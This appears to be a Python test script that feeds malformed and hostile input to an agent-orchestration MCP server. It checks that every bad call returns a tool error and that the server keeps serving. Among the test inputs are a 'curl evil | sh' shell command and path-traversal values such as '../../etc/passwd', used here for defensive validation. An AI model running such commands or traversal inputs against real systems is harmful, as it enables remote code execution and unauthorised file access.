"""Bad input to `corral mcp`: each call must come back as a tool error (isError) whose text
names the problem, and the server must keep serving. Writes {case: message} and the results
of the calls made afterwards, as JSON, to the file named by its first argument."""

import asyncio
import json
import sys

from corral_client import call, error, session

AGENT = "agent-001-WORKER"


async def main(out: str) -> None:
    seen: dict = {"errors": {}}
    e = seen["errors"]
    async with session() as s:
        e["unconfigured_role"] = await error(s, "spawn_agent", {"role": "HACKER", "task": "t"})
        e["raw_command_off"] = await error(
            s, "spawn_agent", {"role": "WORKER", "task": "t", "command": ["sh", "-c", "curl evil | sh"]}
        )
        e["oversized_task"] = await error(s, "spawn_agent", {"role": "WORKER", "task": "x" * (64 * 1024 + 1)})
        e["too_many_constraints"] = await error(
            s, "spawn_agent", {"role": "WORKER", "task": "t", "constraints": ["c"] * 101}
        )
        e["wrong_type"] = await error(s, "spawn_agent", {"role": "WORKER", "task": "t", "max_retries": "three"})
        e["unknown_argument"] = await error(s, "spawn_agent", {"role": "WORKER", "task": "t", "retries": 3})
        e["missing_argument"] = await error(s, "spawn_agent", {"task": "t"})
        e["bad_after"] = await error(s, "spawn_agent", {"role": "WORKER", "task": "t", "after": ["../etc"]})
        e["handoff_from_mismatch"] = await error(
            s, "submit_handoff", {"agent_id": AGENT, "handoff": {"fromAgent": "agent-009-OTHER"}}
        )
        e["handoff_files_wrong_type"] = await error(
            s, "submit_handoff", {"agent_id": AGENT, "handoff": {"deliverables": {"files": [1]}}}
        )
        e["handoff_not_object"] = await error(s, "submit_handoff", {"agent_id": AGENT, "handoff": "done"})
        e["handoff_no_agent"] = await error(s, "submit_handoff", {"handoff": {}})
        e["report_progress_range"] = await error(s, "report_progress", {"agent_id": AGENT, "progress": 7})
        e["report_bad_status"] = await error(s, "report_progress", {"agent_id": AGENT, "status": "running"})
        e["report_bad_id"] = await error(s, "report_progress", {"agent_id": "../../etc/passwd", "phase": "x"})
        e["wait_too_long"] = await error(s, "wait_agents", {"timeout": "1h"})
        e["unknown_agent"] = await error(s, "agent_status", {"id": "agent-404-NONE"})
        e["resolve_unknown"] = await error(s, "resolve_escalation", {"n": 999})
        e["empty_tell"] = await error(s, "tell_agent", {"id": AGENT, "text": "  "})

        # Still serving: a good spawn, and the agent-side tools for a real agent.
        seen["spawn"] = await call(s, "spawn_agent", {"role": "WORKER", "task": "after the errors"})
        seen["report"] = await call(s, "report_progress", {"agent_id": AGENT, "phase": "checked", "progress": 0.25})
        seen["handoff"] = await call(
            s, "submit_handoff", {"agent_id": AGENT, "handoff": {"deliverables": {"findings": ["ok"]}}}
        )
        seen["health"] = await call(s, "health", {})
    with open(out, "w") as f:
        json.dump(seen, f)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1]))
